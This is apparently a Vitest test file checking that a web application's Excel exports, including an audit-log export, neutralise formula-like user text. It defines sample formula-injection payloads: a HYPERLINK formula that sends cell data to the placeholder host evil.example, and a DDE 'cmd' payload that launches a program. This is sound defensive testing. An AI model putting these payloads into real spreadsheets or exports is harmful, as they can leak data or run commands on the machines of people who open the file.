import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../testing/test-app';
import { readXlsxRecords, safeCellValue, writeXlsxFile } from './workbook';
import { expectStatus } from '../testing/http';

/** Exports never hand a spreadsheet a formula made of user text (issue 17, finding #12). */
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cqo-formula-'));
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

async function cellsOf(file: string | Buffer): Promise<ExcelJS.CellValue[]> {
  const book = new ExcelJS.Workbook();
  if (typeof file === 'string') await book.xlsx.readFile(file);
  else await book.xlsx.load(file as unknown as ArrayBuffer);
  const values: ExcelJS.CellValue[] = [];
  book.worksheets[0]?.eachRow((row, n) => {
    if (n > 1) row.eachCell((cell) => values.push(cell.value));
  });
  return values;
}

describe('formula-like text in Excel exports', { timeout: 120_000 }, () => {
  it('is written as text with a leading apostrophe, and re-imports as the original text', async () => {
    const file = path.join(dir, 'x.xlsx');
    await writeXlsxFile(file, '表', [{ header: '名称', key: 'name', value: (v: string) => v }], [[...DANGEROUS, '正常文本', '3-2']]);
    const values = await cellsOf(file);
    // (XML stores a carriage return as a line feed)
    expect(values).toEqual([...DANGEROUS.map((v) => `'${v}`.replace('\r', '\n')), '正常文本', '3-2']);
    for (const v of values) expect(typeof v).toBe('string'); // no formula objects
    const back: string[] = [];
    for await (const [, record] of readXlsxRecords(file, { limits: { maxInflatedBytes: 300 * 1048576 } })) back.push(record['名称'] ?? '');
    // the reader trims whitespace, so the tab/CR cases come back without it
    expect(back.slice(0, 4)).toEqual(DANGEROUS.slice(0, 4));
    expect(safeCellValue(42)).toBe(42);
    expect(safeCellValue(-5)).toBe(-5);
  });

  it('the audit-log export neutralises a user name typed as a formula', async () => {
    const evil = '=HYPERLINK("http://evil.example","x")';
    expectStatus(
      await t.app.inject({
        method: 'POST',
        url: '/api/auth/login',
        headers: { 'x-requested-with': 'x' },
        payload: { username: evil, password: 'Wrong@password1' },
      }),
      401,
    );
    const res = await t.app.inject({ url: '/api/audit-events/export?result=failure', headers: await t.as('auditadmin') });
    expect(res.statusCode).toBe(200);
    const values = await cellsOf(res.rawPayload);
    expect(values).toContain(`'${evil}`);
    expect(values).not.toContain(evil);
  });
});
